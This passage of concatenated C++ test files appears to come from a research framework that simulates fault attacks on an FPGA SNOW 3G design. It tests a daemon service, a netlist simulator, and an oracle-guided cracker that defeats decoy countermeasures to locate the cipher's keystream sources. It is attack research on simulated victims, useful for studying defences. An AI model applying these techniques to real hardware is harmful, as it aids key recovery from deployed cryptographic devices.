    done_at_kill = view->trials_done;
    EXPECT_LT(done_at_kill, 60u) << "the kill must interrupt the job mid-run";
  }
  {
    ServiceOptions opt = small_service(store_dir, /*workers=*/1);
    opt.pool_threads = 8;
    CampaignService service(opt);
    EXPECT_EQ(service.stats().resumed_jobs, 1u);
    const JobView done = wait_terminal(service, job_id);
    EXPECT_EQ(done.state, JobState::kDone);
    EXPECT_EQ(done.trials_done, 60u);
    EXPECT_GE(done.resumed_trials, std::min<size_t>(done_at_kill, 1));
    // The headline contract: resumed fingerprint == uninterrupted
    // fingerprint, across different pool sizes (1 vs 8 threads).
    EXPECT_EQ(done.fingerprint, reference_fp);
    service.drain();
  }
}

TEST(ServiceRestart, QueuedJobsSurviveRestartInOrder) {
  const std::string store_dir = fresh_path("queue-store");
  std::vector<std::string> ids;
  {
    ServiceOptions opt = small_service(store_dir);
    CampaignService service(opt);
    // One long job holds the worker; the rest never start.
    const auto blocker = service.submit(synthetic_spec(100, 20, "a"));
    ASSERT_TRUE(blocker.ok);
    ids.push_back(blocker.id);
    for (int i = 0; i < 3; ++i) {
      const auto s = service.submit(synthetic_spec(2, 0, "b"));
      ASSERT_TRUE(s.ok);
      ids.push_back(s.id);
    }
    service.stop_hard();
  }
  {
    ServiceOptions opt = small_service(store_dir);
    CampaignService service(opt);
    EXPECT_EQ(service.stats().resumed_jobs, 4u);
    for (const std::string& id : ids) {
      const JobView view = wait_terminal(service, id);
      EXPECT_EQ(view.state, JobState::kDone) << id;
    }
    service.drain();
  }
}

// ---------------------------------------------------------------------------
// Metrics parity

TEST(ServiceMetricsParity, PerJobBlockEqualsReportMetricsMember) {
  const obs::Mode saved = obs::mode();
  obs::set_mode(obs::Mode::kMetrics);
  DaemonFixture daemon(small_service(fresh_path("mp-store")), "mp");
  Client client = daemon.connect();
  const auto id = client.submit(synthetic_spec(5));
  ASSERT_TRUE(id.has_value());
  ASSERT_EQ(client.wait_done(*id).value_or(""), "done");

  Request status;
  status.verb = Verb::kStatus;
  status.job_id = *id;
  const auto st = client.request(status);
  ASSERT_TRUE(st.has_value());
  const JsonValue* status_metrics = st->find("job")->find("metrics");
  ASSERT_NE(status_metrics, nullptr);

  Request result;
  result.verb = Verb::kResult;
  result.job_id = *id;
  const auto res = client.request(result);
  ASSERT_TRUE(res.has_value());
  const JsonValue* report_metrics = res->find("report")->find("metrics");
  ASSERT_NE(report_metrics, nullptr);

  // The daemon's per-job metrics block IS the campaign report's "metrics"
  // member — same writer, byte-identical schema and values.
  EXPECT_EQ(status_metrics->dump(), report_metrics->dump());

  // The process-wide metrics verb returns the same snapshot the CLI's
  // --metrics-out flag writes: obs::MetricsRegistry::global().
  Request metrics;
  metrics.verb = Verb::kMetrics;
  const auto snap = client.request(metrics);
  ASSERT_TRUE(snap.has_value());
  const JsonValue* remote = snap->find("metrics");
  ASSERT_NE(remote, nullptr);
  const auto local = parse_json(obs::MetricsRegistry::global().snapshot().to_json());
  ASSERT_TRUE(local.has_value());
  std::set<std::string> remote_keys;
  std::set<std::string> local_keys;
  for (const auto& [k, v] : remote->members) remote_keys.insert(k);
  for (const auto& [k, v] : local->members) local_keys.insert(k);
  EXPECT_EQ(remote_keys, local_keys);
  // Our submissions showed up in the registry the verb serves.
  const JsonValue* counters = remote->find("counters");
  ASSERT_NE(counters, nullptr);
  bool saw_submitted = false;
  for (const auto& [k, v] : counters->members) saw_submitted |= k == "service.jobs_submitted";
  EXPECT_TRUE(saw_submitted);
  obs::set_mode(saved);
}

TEST(ServiceMetricsParity, LiveBlockSharesTheFinalSchema) {
  DaemonFixture daemon(small_service(fresh_path("live-store")), "live");
  Client client = daemon.connect();
  const auto id = client.submit(synthetic_spec(80, 10));
  ASSERT_TRUE(id.has_value());

  Request status;
  status.verb = Verb::kStatus;
  status.job_id = *id;
  std::optional<std::string> live_keys;
  for (int i = 0; i < 2000 && !live_keys; ++i) {
    const auto st = client.request(status);
    ASSERT_TRUE(st.has_value());
    const JsonValue* job = st->find("job");
    if (job->find("state")->as_string() == "running") {
      const JsonValue* m = job->find("metrics");
      ASSERT_NE(m, nullptr);
      std::string keys;
      for (const auto& [k, v] : m->members) keys += k + ",";
      live_keys = keys;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }
  ASSERT_TRUE(live_keys.has_value()) << "never observed the job running";

  ASSERT_EQ(client.wait_done(*id).value_or(""), "done");
  const auto st = client.request(status);
  const JsonValue* final_metrics = st->find("job")->find("metrics");
  ASSERT_NE(final_metrics, nullptr);
  std::string final_keys;
  for (const auto& [k, v] : final_metrics->members) final_keys += k + ",";
  // Streaming and final blocks expose the identical canonical schema.
  EXPECT_EQ(*live_keys, final_keys);
}

}  // namespace
}  // namespace sbm::service
