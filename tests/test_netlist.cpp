// Boolean-network, word-level builder and simulator tests, including the
// equivalence of the structural SNOW 3G design with the software model.
#include <gtest/gtest.h>

#include "common/rng.h"
#include "harness.h"
#include "netlist/netlist.h"
#include "netlist/sim.h"
#include "netlist/snow3g_design.h"
#include "snow3g/snow3g.h"

namespace sbm::netlist {
namespace {

TEST(Network, ConstantFolding) {
  Network net;
  const NodeId x = net.add_input("x");
  EXPECT_EQ(net.add_gate(NodeKind::kAnd, x, net.const0()), net.const0());
  EXPECT_EQ(net.add_gate(NodeKind::kAnd, x, net.const1()), x);
  EXPECT_EQ(net.add_gate(NodeKind::kOr, x, net.const1()), net.const1());
  EXPECT_EQ(net.add_gate(NodeKind::kOr, x, net.const0()), x);
  EXPECT_EQ(net.add_gate(NodeKind::kXor, x, net.const0()), x);
  EXPECT_EQ(net.add_not(net.const0()), net.const1());
  // XOR with constant 1 folds into a NOT.
  const NodeId nx = net.add_gate(NodeKind::kXor, x, net.const1());
  EXPECT_EQ(net.node(nx).kind, NodeKind::kNot);
}

TEST(Network, GateKindValidation) {
  Network net;
  const NodeId x = net.add_input("x");
  EXPECT_THROW(net.add_gate(NodeKind::kNot, x, x), std::invalid_argument);
  EXPECT_THROW(net.add_gate(NodeKind::kDff, x, x), std::invalid_argument);
}

TEST(Network, TopoOrderRespectsFanins) {
  Network net;
  const NodeId x = net.add_input("x");
  const NodeId y = net.add_input("y");
  const NodeId g1 = net.add_gate(NodeKind::kAnd, x, y);
  const NodeId g2 = net.add_gate(NodeKind::kXor, g1, x);
  net.add_output("o", g2);
  const auto& topo = net.topo_order();
  auto pos = [&](NodeId id) {
    return std::find(topo.begin(), topo.end(), id) - topo.begin();
  };
  EXPECT_LT(pos(x), pos(g1));
  EXPECT_LT(pos(y), pos(g1));
  EXPECT_LT(pos(g1), pos(g2));
}

TEST(Network, DetectsCombinationalCycle) {
  Network net;
  const NodeId x = net.add_input("x");
  Node fake;
  // Build a cycle through a DFF-free path by abusing connect order: create
  // two gates and re-point one's fanin to the other.
  const NodeId g1 = net.add_gate(NodeKind::kAnd, x, x);
  const NodeId g2 = net.add_gate(NodeKind::kAnd, g1, x);
  (void)g2;
  (void)fake;
  // A DFF broken loop is fine; a direct loop must throw.  We simulate the
  // loop by constructing a DFF whose D is its own Q via combinational gate —
  // that is legal.  True combinational cycles cannot be built through the
  // public API, which is itself the property under test.
  EXPECT_NO_THROW(net.topo_order());
}

TEST(Simulator, GateSemantics) {
  Network net;
  const NodeId x = net.add_input("x");
  const NodeId y = net.add_input("y");
  const NodeId z = net.add_input("z");
  const NodeId and2 = net.add_gate(NodeKind::kAnd, x, y);
  const NodeId or2 = net.add_gate(NodeKind::kOr, x, y);
  const NodeId xor2 = net.add_gate(NodeKind::kXor, x, y);
  const NodeId nx = net.add_not(x);
  const NodeId carry = net.add_carry(x, y, z);
  Simulator sim(net);
  for (unsigned m = 0; m < 8; ++m) {
    sim.set_input(x, m & 1);
    sim.set_input(y, m & 2);
    sim.set_input(z, m & 4);
    sim.settle();
    const unsigned a = m & 1, b = (m >> 1) & 1, c = (m >> 2) & 1;
    EXPECT_EQ(sim.value(and2), (a & b) != 0);
    EXPECT_EQ(sim.value(or2), (a | b) != 0);
    EXPECT_EQ(sim.value(xor2), (a ^ b) != 0);
    EXPECT_EQ(sim.value(nx), a == 0);
    EXPECT_EQ(sim.value(carry), ((a & b) | (c & (a ^ b))) != 0);
  }
}

TEST(Simulator, Add32MatchesIntegerAddition) {
  Network net;
  const Word a = net.add_input_word("a");
  const Word b = net.add_input_word("b");
  const Word sum = net.add32(a, b);
  net.add_output_word("sum", sum);
  Simulator sim(net);
  Rng rng(1);
  for (int trial = 0; trial < 200; ++trial) {
    const u32 x = rng.next_u32(), y = rng.next_u32();
    sim.set_input_word(a, x);
    sim.set_input_word(b, y);
    sim.settle();
    EXPECT_EQ(sim.read_word(sum), x + y);
  }
}

TEST(Simulator, WordOps) {
  Network net;
  const Word a = net.add_input_word("a");
  const Word b = net.add_input_word("b");
  const NodeId sel = net.add_input("sel");
  const Word x = net.xor_word(a, b);
  const Word m = net.mux_word(sel, a, b);
  const Word g = net.and_scalar(a, sel);
  const Word n = net.not_word(a);
  Simulator sim(net);
  Rng rng(2);
  for (int trial = 0; trial < 100; ++trial) {
    const u32 va = rng.next_u32(), vb = rng.next_u32();
    const bool vs = rng.next_bool();
    sim.set_input_word(a, va);
    sim.set_input_word(b, vb);
    sim.set_input(sel, vs);
    sim.settle();
    EXPECT_EQ(sim.read_word(x), va ^ vb);
    EXPECT_EQ(sim.read_word(m), vs ? va : vb);
    EXPECT_EQ(sim.read_word(g), vs ? va : 0u);
    EXPECT_EQ(sim.read_word(n), ~va);
  }
}

TEST(Simulator, XorTreeParity) {
  Network net;
  std::vector<NodeId> inputs;
  for (int i = 0; i < 13; ++i) inputs.push_back(net.add_input("i" + std::to_string(i)));
  const NodeId root = net.xor_tree(inputs);
  net.add_output("p", root);
  Simulator sim(net);
  Rng rng(3);
  for (int trial = 0; trial < 100; ++trial) {
    unsigned parity = 0;
    for (const NodeId in : inputs) {
      const bool v = rng.next_bool();
      sim.set_input(in, v);
      parity ^= v ? 1 : 0;
    }
    sim.settle();
    EXPECT_EQ(sim.value(root), parity != 0);
  }
  EXPECT_EQ(net.xor_tree({}), net.const0());
}

TEST(Simulator, DffLatchesOnClock) {
  Network net;
  const NodeId d = net.add_input("d");
  const NodeId q = net.add_dff("q");
  net.connect_dff(q, d);
  Simulator sim(net);
  sim.set_input(d, true);
  sim.settle();
  EXPECT_FALSE(sim.value(q));  // not clocked yet
  sim.clock();
  sim.set_input(d, false);
  sim.settle();
  EXPECT_TRUE(sim.value(q));  // holds the captured 1
  sim.clock();
  sim.settle();
  EXPECT_FALSE(sim.value(q));
}

TEST(Simulator, BramLookup) {
  Network net;
  const Word in = net.add_input_word("in");
  const u32 b = net.add_bram("rot", in, [](u32 w) { return rotl32(w, 3); });
  Word out = net.brams()[b].outputs;
  net.add_output_word("out", out);
  Simulator sim(net);
  Rng rng(4);
  for (int trial = 0; trial < 50; ++trial) {
    const u32 v = rng.next_u32();
    sim.set_input_word(in, v);
    sim.settle();
    EXPECT_EQ(sim.read_word(out), rotl32(v, 3));
  }
}

class DesignEquivalence : public ::testing::TestWithParam<u64> {};

TEST_P(DesignEquivalence, NetlistMatchesSoftwareModel) {
  Rng rng(GetParam());
  const snow3g::Key k = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
  const snow3g::Iv iv = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
  auto design = build_snow3g_design();
  Simulator sim(design.net);
  const std::vector<u32> hw = sbm::testing::run_design(design, sim, k, iv, 12);
  snow3g::Snow3g ref(k, iv);
  EXPECT_EQ(hw, ref.keystream(12));
}

TEST_P(DesignEquivalence, ProtectedNetlistMatchesSoftwareModel) {
  Rng rng(GetParam() + 1000);
  const snow3g::Key k = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
  const snow3g::Iv iv = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
  auto design = build_protected_snow3g_design();
  Simulator sim(design.net);
  const std::vector<u32> hw = sbm::testing::run_design(design, sim, k, iv, 8);
  snow3g::Snow3g ref(k, iv);
  EXPECT_EQ(hw, ref.keystream(8));
}

INSTANTIATE_TEST_SUITE_P(Sweep, DesignEquivalence, ::testing::Values(1, 2, 3, 4, 5));

TEST(Design, TargetNodesAreXors) {
  const auto d = build_snow3g_design();
  for (const NodeId v : d.target_v) {
    EXPECT_EQ(d.net.node(v).kind, NodeKind::kXor);
  }
}

TEST(Design, ProtectedVariantMarksKeepNodes) {
  const auto d = build_protected_snow3g_design();
  EXPECT_TRUE(d.protected_variant);
  EXPECT_EQ(d.decoy_xors.size(), 5u * 32u);
  for (const NodeId v : d.target_v) EXPECT_TRUE(d.net.node(v).keep);
  for (const NodeId u : d.decoy_xors) EXPECT_TRUE(d.net.node(u).keep);
  // Decoys implement the same function as the target: 2-input XOR gates.
  for (const NodeId u : d.decoy_xors) EXPECT_EQ(d.net.node(u).kind, NodeKind::kXor);
}

TEST(Design, UnprotectedHasNoKeepNodes) {
  const auto d = build_snow3g_design();
  for (NodeId id = 0; id < d.net.node_count(); ++id) {
    EXPECT_FALSE(d.net.node(id).keep);
  }
}

TEST(Design, SizesAreReasonable) {
  const auto d = build_snow3g_design();
  EXPECT_GT(d.net.gate_count(), 1000u);
  // 16 LFSR + 3 FSM + 16 gamma words of 32 bits.
  EXPECT_EQ(d.net.dff_count(), 35u * 32u);
  EXPECT_EQ(d.net.brams().size(), 2u);
}

}  // namespace
}  // namespace sbm::netlist
