// The oracle-guided countermeasure cracker (DESIGN.md §4l).
//
// Three layers under test:
//   * DecoyHypothesisSet + run_crack_loop on synthetic decoy models —
//     the property tests (monotone shrink, termination, determinism) and
//     the brute-force differential run here, with no device in sight.
//   * The device-bound Cracker on real protected / equalized victims —
//     verdicts, netlist ground truth, thread + SIMD invariance, and the
//     checkpoint-resume zero-repay contract.
//   * The campaign / service plumbing for the "crack" job kind —
//     fingerprint replay stability, checkpoint round-trip, and the
//     malformed-kind rejection the daemon answers as a 400.
#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>
#include <set>
#include <string>
#include <vector>

#include "attack/cracker.h"
#include "campaign/campaign.h"
#include "campaign/checkpoint.h"
#include "common/json.h"
#include "common/rng.h"
#include "fpga/system.h"
#include "runtime/probe_cache.h"
#include "runtime/thread_pool.h"
#include "service/protocol.h"
#include "simd/backend.h"

namespace {

using namespace sbm;
using namespace sbm::attack;

constexpr snow3g::Iv kIv = {1, 2, 3, 4};

// ---------------------------------------------------------------------------
// Synthetic decoy model: candidates with known ground-truth behaviour, and a
// response function shared by the loop's oracle and the brute-force checker.
// ---------------------------------------------------------------------------

enum class Kind : u8 {
  kSource,        // the lone true v source of its bit
  kCopy,          // one of an XOR-recombined equalized group (response-equal)
  kBaselineDecoy, // zeroing it changes nothing
  kColumnDecoy,   // zeroing it kills only the z column of its bit
  kOtherDecoy,    // zeroing it corrupts the keystream unrecognizably
};

struct Synthetic {
  unsigned bits = 0;
  std::vector<Kind> kind;  // per candidate id
  std::vector<int> bit;    // bit for source/copy/column candidates, else -1
  std::vector<int> group;  // equalized group id for copies, else -1

  size_t size() const { return kind.size(); }

  /// Deterministic response to zeroing the candidate subset `ids`: the
  /// source path of a bit dies iff an odd number of its copies are zeroed
  /// (XOR recombination), and anything outside the 2b + 1 reference classes
  /// collapses to kOther — the same closed-world view the device gives.
  ClassifiedResponse respond(const std::vector<size_t>& ids) const {
    std::vector<int> cut(bits, 0), col(bits, 0);
    for (const size_t id : ids) {
      switch (kind[id]) {
        case Kind::kSource:
        case Kind::kCopy:
          cut[static_cast<size_t>(bit[id])] ^= 1;
          break;
        case Kind::kColumnDecoy:
          col[static_cast<size_t>(bit[id])] = 1;
          break;
        case Kind::kOtherDecoy:
          return {ResponseClass::kOther, -1};
        case Kind::kBaselineDecoy:
          break;
      }
    }
    int cut_bit = -1, cuts = 0, col_bit = -1, cols = 0;
    for (unsigned b = 0; b < bits; ++b) {
      if (cut[b] != 0) {
        cut_bit = static_cast<int>(b);
        ++cuts;
      } else if (col[b] != 0) {
        col_bit = static_cast<int>(b);
        ++cols;
      }
    }
    if (cuts > 1 || (cuts == 1 && cols > 0) || cols > 1) return {ResponseClass::kOther, -1};
    if (cuts == 1) return {ResponseClass::kSourceCut, cut_bit};
    if (cols == 1) return {ResponseClass::kColumnDead, col_bit};
    return {ResponseClass::kBaseline, -1};
  }

  CrackProbeFn oracle() const {
    return [this](const std::vector<std::vector<size_t>>& round) {
      std::vector<std::optional<ClassifiedResponse>> out;
      out.reserve(round.size());
      for (const auto& ids : round) out.push_back(respond(ids));
      return out;
    };
  }

  bool any_equalized() const {
    return std::any_of(group.begin(), group.end(), [](int g) { return g >= 0; });
  }
};

/// Randomized model: one source (or, with `equalize_some`, sometimes a
/// 3-copy equalized group) per bit, plus `decoys` extra candidates of
/// random benign kinds.  Candidate ids are shuffled so position carries no
/// information.
Synthetic make_model(unsigned bits, size_t decoys, u64 seed, bool equalize_some) {
  Rng rng(seed);
  Synthetic m;
  m.bits = bits;
  int next_group = 0;
  auto add = [&m](Kind k, int b, int g) {
    m.kind.push_back(k);
    m.bit.push_back(b);
    m.group.push_back(g);
  };
  for (unsigned b = 0; b < bits; ++b) {
    if (equalize_some && rng.next_u32() % 3 == 0) {
      const int g = next_group++;
      for (int c = 0; c < 3; ++c) add(Kind::kCopy, static_cast<int>(b), g);
    } else {
      add(Kind::kSource, static_cast<int>(b), -1);
    }
  }
  for (size_t d = 0; d < decoys; ++d) {
    switch (rng.next_u32() % 3) {
      case 0: add(Kind::kBaselineDecoy, -1, -1); break;
      case 1: add(Kind::kColumnDecoy, static_cast<int>(rng.next_u32() % bits), -1); break;
      default: add(Kind::kOtherDecoy, -1, -1); break;
    }
  }
  for (size_t i = m.size(); i > 1; --i) {  // Fisher-Yates on all three arrays
    const size_t j = rng.next_u64() % i;
    std::swap(m.kind[i - 1], m.kind[j]);
    std::swap(m.bit[i - 1], m.bit[j]);
    std::swap(m.group[i - 1], m.group[j]);
  }
  return m;
}

// ---------------------------------------------------------------------------
// Property tests on the device-free loop.
// ---------------------------------------------------------------------------

// Every crack run either pins a unique assignment or terminates with a
// proof of ambiguity, with the hypothesis measure shrinking monotonically —
// across decoy counts {2, 4, 8, 16} and seeds, never looping forever.
TEST(DecoyHypothesis, MonotoneShrinkOrProofOfAmbiguity) {
  for (const size_t decoys : {2u, 4u, 8u, 16u}) {
    for (const u64 seed : {0x1d5eedull, 0xabcdull, 0xfeed01ull}) {
      for (const bool equalize : {false, true}) {
        const Synthetic m = make_model(8, decoys, seed ^ decoys, equalize);
        DecoyHypothesisSet hyp(m.size(), m.bits);
        const double initial = hyp.log2_hypotheses();
        const CrackLoopStats stats = run_crack_loop(hyp, m.oracle());
        const std::string label = "decoys=" + std::to_string(decoys) + " seed=" +
                                  std::to_string(seed) + " eq=" + std::to_string(equalize);

        ASSERT_FALSE(stats.aborted) << label;
        // Termination bound: one singleton round classifies everything, one
        // pair round settles every residual class — never more.
        EXPECT_GE(stats.rounds, 1u) << label;
        EXPECT_LE(stats.rounds, 2u) << label;
        // Monotone progress: the measure never grows, and the singleton
        // round strictly shrinks it (every candidate leaves kUnknown).
        ASSERT_FALSE(stats.log2_by_round.empty()) << label;
        EXPECT_LT(stats.log2_by_round.front(), initial) << label;
        for (size_t r = 1; r < stats.log2_by_round.size(); ++r) {
          EXPECT_LE(stats.log2_by_round[r], stats.log2_by_round[r - 1]) << label;
        }
        // Exactly one verdict, and the right one for the planted model.
        EXPECT_NE(hyp.unique(), hyp.proven_ambiguous()) << label;
        EXPECT_EQ(hyp.unique(), !m.any_equalized()) << label;
        EXPECT_EQ(hyp.log2_hypotheses() == 0.0, hyp.unique()) << label;
      }
    }
  }
}

// The loop's probe sequence is a pure function of the hypothesis state:
// two fresh runs over the same model issue bit-identical probe plans.
TEST(DecoyHypothesis, ProbePlanIsDeterministic) {
  const Synthetic m = make_model(8, 12, 0x5eed, /*equalize_some=*/true);
  auto record = [&m]() {
    std::vector<std::vector<std::vector<size_t>>> rounds;
    DecoyHypothesisSet hyp(m.size(), m.bits);
    const auto oracle = m.oracle();
    run_crack_loop(hyp, [&](const std::vector<std::vector<size_t>>& round) {
      rounds.push_back(round);
      return oracle(round);
    });
    return rounds;
  };
  EXPECT_EQ(record(), record());
}

// Differential against brute force on small decoy sets (<= 12 decoys): the
// engine's surviving claimant sets must equal the independently-enumerated
// candidates consistent with every singleton response, the verdict must
// match the exhaustive pair-cancellation check, and the residual measure
// must count exactly the brute-force assignment product.
TEST(DecoyHypothesis, BruteForceDifferentialOnSmallSets) {
  for (const size_t decoys : {3u, 7u, 12u}) {
    for (const u64 seed : {0x90ull, 0x91ull, 0x92ull}) {
      const Synthetic m = make_model(4, decoys, seed, /*equalize_some=*/true);
      DecoyHypothesisSet hyp(m.size(), m.bits);
      run_crack_loop(hyp, m.oracle());
      const std::string label = "decoys=" + std::to_string(decoys) + " seed=" +
                                std::to_string(seed);

      // Brute force, written against the model directly: a candidate
      // survives as bit b's source iff its lone zeroing gives exactly the
      // source-cut(b) response.
      double assignments = 1;
      bool brute_unique = true, brute_ambiguous_proof = false, classes_cancel = true;
      for (unsigned b = 0; b < m.bits; ++b) {
        std::vector<size_t> survivors;
        for (size_t c = 0; c < m.size(); ++c) {
          const ClassifiedResponse r = m.respond({c});
          if (r.cls == ResponseClass::kSourceCut && r.bit == static_cast<int>(b)) {
            survivors.push_back(c);
          }
        }
        ASSERT_FALSE(survivors.empty()) << label;
        EXPECT_EQ(survivors, hyp.claimants(b)) << label << " bit " << b;
        assignments *= static_cast<double>(survivors.size());
        if (survivors.size() > 1) {
          brute_unique = false;
          brute_ambiguous_proof = true;
          for (size_t i = 0; i < survivors.size(); ++i) {
            for (size_t j = i + 1; j < survivors.size(); ++j) {
              classes_cancel = classes_cancel &&
                               m.respond({survivors[i], survivors[j]}).cls ==
                                   ResponseClass::kBaseline;
            }
          }
        }
      }
      EXPECT_EQ(hyp.unique(), brute_unique) << label;
      EXPECT_EQ(hyp.proven_ambiguous(), brute_ambiguous_proof && classes_cancel) << label;
      EXPECT_NEAR(hyp.log2_hypotheses(), std::log2(assignments), 1e-9) << label;
    }
  }
}

// ---------------------------------------------------------------------------
// The device-bound Cracker on real victims.
// ---------------------------------------------------------------------------

CrackResult crack_victim(const fpga::System& sys, runtime::ThreadPool* pool,
                         std::vector<SavedProbe> resume = {}) {
  DeviceOracle oracle(sys, kIv, pool);
  runtime::ProbeCache cache;
  CrackerConfig cfg;
  cfg.cache = &cache;
  if (pool != nullptr) cfg.find.pool = pool;
  cfg.resume = std::move(resume);
  Cracker cracker(oracle, sys.golden.bytes, cfg);
  return cracker.execute();
}

std::set<size_t> as_set(const std::vector<size_t>& v) { return {v.begin(), v.end()}; }

// The default protected victim: the cracker uniquely identifies all 32 true
// sources — matching the netlist ground truth — in adaptive probes
// exponentially below the advertised static C(n - 32, 32) bound.
TEST(Cracker, ProtectedVictimUniqueMatchesNetlistTruth) {
  fpga::SystemOptions opt;
  opt.protected_variant = true;
  const fpga::System sys = fpga::build_system(opt);
  const CrackResult res = crack_victim(sys, nullptr);

  ASSERT_TRUE(res.success) << res.failure;
  EXPECT_TRUE(res.unique);
  EXPECT_FALSE(res.proven_ambiguous);
  EXPECT_EQ(res.log2_hypotheses_final, 0.0);
  EXPECT_GT(res.log2_static_bound, 100.0);
  ASSERT_GT(res.adaptive_probes, 0u);
  // The defender's claimed search cost is astronomically above what the
  // oracle-guided attacker actually paid.
  EXPECT_GT(res.log2_static_bound - std::log2(static_cast<double>(res.adaptive_probes)), 80.0);

  const auto truth = sys.crack_truth();
  for (unsigned i = 0; i < 32; ++i) {
    EXPECT_EQ(as_set(res.claimant_bytes[i]), as_set(truth[i])) << "bit " << i;
  }
}

// The response-equalized countermeasure: the cracker must *not* reach a
// unique assignment — it terminates with a proof that each equalized class
// is indistinguishable under any fault pattern, at a strictly higher
// adaptive probe cost than the plain countermeasure.
TEST(Cracker, EqualizedVictimProvenAmbiguous) {
  fpga::SystemOptions plain_opt;
  plain_opt.protected_variant = true;
  const CrackResult plain = crack_victim(fpga::build_system(plain_opt), nullptr);
  ASSERT_TRUE(plain.success) << plain.failure;

  fpga::SystemOptions opt;
  opt.equalized = true;
  const fpga::System sys = fpga::build_system(opt);
  const CrackResult res = crack_victim(sys, nullptr);

  ASSERT_TRUE(res.success) << res.failure;
  EXPECT_TRUE(res.proven_ambiguous);
  EXPECT_FALSE(res.unique);
  EXPECT_GT(res.log2_hypotheses_final, 0.0);
  EXPECT_GT(res.adaptive_probes, plain.adaptive_probes);

  // The surviving classes are exactly the planted 3-copy groups.
  const auto truth = sys.crack_truth();
  for (unsigned i = 0; i < 32; ++i) {
    EXPECT_EQ(as_set(res.claimant_bytes[i]), as_set(truth[i])) << "bit " << i;
    EXPECT_GT(res.claimant_bytes[i].size(), 1u) << "bit " << i;
  }
}

// The surviving-hypothesis sets are bit-identical across thread counts and
// SIMD backends — the cracker inherits the runtime layer's determinism
// contract.
TEST(Cracker, ThreadAndSimdBackendInvariance) {
  fpga::SystemOptions opt;
  opt.protected_variant = true;
  const fpga::System sys = fpga::build_system(opt);

  const CrackResult serial = crack_victim(sys, nullptr);
  ASSERT_TRUE(serial.success) << serial.failure;

  const CrackResult pooled = crack_victim(sys, &runtime::ThreadPool::global());
  ASSERT_TRUE(pooled.success) << pooled.failure;
  EXPECT_EQ(serial.claimant_bytes, pooled.claimant_bytes);
  EXPECT_EQ(serial.adaptive_probes, pooled.adaptive_probes);
  EXPECT_EQ(serial.rounds, pooled.rounds);

  for (const simd::Backend b :
       {simd::Backend::kScalar, simd::Backend::kAvx2, simd::Backend::kAvx512}) {
    if (!simd::compiled(b) || !simd::host_supports(b)) continue;
    simd::ScopedBackend scoped(b);
    const CrackResult run = crack_victim(sys, nullptr);
    ASSERT_TRUE(run.success) << simd::backend_name(b) << ": " << run.failure;
    EXPECT_EQ(serial.claimant_bytes, run.claimant_bytes) << simd::backend_name(b);
    EXPECT_EQ(serial.adaptive_probes, run.adaptive_probes) << simd::backend_name(b);
  }
}

// Checkpoint-resume contract (the PR-9 cache-salvage semantics): a second
// cracker seeded with the first run's settled probes answers every probe
// from the salvage and re-pays zero physical configurations.
TEST(Cracker, ResumeRePaysZeroSettledProbes) {
  fpga::SystemOptions opt;
  opt.protected_variant = true;
  const fpga::System sys = fpga::build_system(opt);

  const CrackResult first = crack_victim(sys, nullptr);
  ASSERT_TRUE(first.success) << first.failure;
  ASSERT_FALSE(first.salvaged.empty());

  const CrackResult resumed = crack_victim(sys, nullptr, first.salvaged);
  ASSERT_TRUE(resumed.success) << resumed.failure;
  EXPECT_EQ(resumed.adaptive_probes, 0u);
  EXPECT_GT(resumed.cache_hits, 0u);
  EXPECT_TRUE(resumed.unique);
  EXPECT_EQ(first.claimant_bytes, resumed.claimant_bytes);
}

// ---------------------------------------------------------------------------
// Campaign and service plumbing for the "crack" job kind.
// ---------------------------------------------------------------------------

// A crack campaign's fingerprint is a pure function of (seed, run index):
// stable across thread counts and across checkpoint/resume replay.
TEST(CrackCampaign, FingerprintStableAcrossThreadsAndReplay) {
  campaign::CampaignOptions opt;
  opt.kind = "crack";
  opt.trials = 2;
  opt.threads = 1;
  opt.verbose = false;
  const campaign::CampaignReport one = campaign::run_campaign(opt);
  ASSERT_EQ(one.trials.size(), 2u);
  EXPECT_TRUE(one.all_expected());
  EXPECT_EQ(one.crack_trials, 2u);
  EXPECT_EQ(one.crack_unique_verdicts, 2u);
  EXPECT_GT(one.total_adaptive_probes, 0u);

  opt.threads = 2;
  const campaign::CampaignReport two = campaign::run_campaign(opt);
  EXPECT_EQ(one.fingerprint(), two.fingerprint());

  // Replay through a checkpoint: the resumed report is the same campaign.
  opt.threads = 1;
  opt.checkpoint_path = testing::TempDir() + "crack_campaign_ckpt.json";
  const campaign::CampaignReport saved = campaign::run_campaign(opt);
  EXPECT_EQ(saved.fingerprint(), one.fingerprint());
  opt.resume = true;
  const campaign::CampaignReport resumed = campaign::run_campaign(opt);
  EXPECT_EQ(resumed.resumed_trials, 2u);
  EXPECT_EQ(resumed.fingerprint(), one.fingerprint());
  std::remove(opt.checkpoint_path.c_str());
}

// The equalized knob flips the expected verdict and strictly raises the
// adaptive probe cost, trial for trial.
TEST(CrackCampaign, EqualizedTrialExpectsAmbiguityAtHigherCost) {
  campaign::CampaignOptions opt;
  opt.kind = "crack";
  opt.verbose = false;
  const campaign::TrialOutcome plain = campaign::run_trial(opt, 0, nullptr);
  ASSERT_TRUE(plain.crack);
  EXPECT_TRUE(plain.expected);
  EXPECT_TRUE(plain.crack_unique);

  opt.equalized = true;
  const campaign::TrialOutcome eq = campaign::run_trial(opt, 0, nullptr);
  ASSERT_TRUE(eq.crack);
  EXPECT_TRUE(eq.expected);
  EXPECT_TRUE(eq.crack_proven_ambiguous);
  EXPECT_FALSE(eq.crack_unique);
  EXPECT_GT(eq.adaptive_probes, plain.adaptive_probes);
}

// Checkpoint layer: crack trials round-trip with every verdict field, and
// the options signature separates job kinds and countermeasure variants —
// an attack checkpoint can never seed a crack campaign.
TEST(CrackCampaign, CheckpointRoundTripAndSignatureSeparation) {
  campaign::CampaignOptions opt;
  opt.kind = "crack";
  campaign::TrialOutcome t;
  t.index = 3;
  t.trial_seed = 0x1234;
  t.crack = true;
  t.crack_unique = true;
  t.crack_candidates = 328;
  t.adaptive_probes = 593;
  t.log2_static_bound = 142.5;
  t.log2_final = 0.0;
  t.expected = true;
  const std::string json = campaign::checkpoint_to_json(opt, {t});
  const auto cp = campaign::checkpoint_from_json(json);
  ASSERT_TRUE(cp.has_value());
  ASSERT_EQ(cp->completed.size(), 1u);
  const campaign::TrialOutcome& r = cp->completed[0];
